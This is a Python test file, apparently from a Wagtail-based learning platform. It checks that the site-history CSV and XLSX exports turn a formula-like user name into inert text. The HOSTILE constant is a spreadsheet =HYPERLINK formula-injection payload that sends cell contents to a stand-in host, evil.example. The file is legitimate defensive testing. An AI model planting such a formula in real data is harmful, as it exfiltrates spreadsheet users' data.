"""Wagtail's own spreadsheet exports (site history and every other report) write their cells
through lms.spreadsheets.neutralise, as our exports do: a name stored before names were checked
comes out as text, never as a formula a spreadsheet would run."""

import csv
import io

import openpyxl
import pytest
from wagtail.log_actions import log
from wagtail.models import Page

from lms.models import Role, User
from tests.factories import with_role

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?stolen="&A3&B3,"Open details")'


@pytest.fixture
def history_by_a_hostile_name(client):
    editor = with_role(Role.EDITOR)
    # Stored before names were checked, with a control character pasted in the middle.
    User.objects.filter(pk=editor.pk).update(full_name=f"{HOSTILE[:9]}\x0b{HOSTILE[9:]}")
    editor.refresh_from_db()
    log(instance=Page.objects.get(depth=2), action="wagtail.edit", user=editor)
    client.force_login(with_role(Role.ADMINISTRATOR))
    return client


def test_the_site_history_csv_neutralises_a_formula_name(history_by_a_hostile_name):
    response = history_by_a_hostile_name.get("/admin/reports/site-history/", {"export": "csv"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(content, newline="")))
    users = [row[rows[0].index("User")] for row in rows[1:]]
    assert "'" + HOSTILE in users
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_site_history_xlsx_has_no_control_characters_or_formulas(history_by_a_hostile_name):
    response = history_by_a_hostile_name.get("/admin/reports/site-history/", {"export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    users = [row[4].value for row in sheet.iter_rows(min_row=2)]
    assert "'" + HOSTILE in users
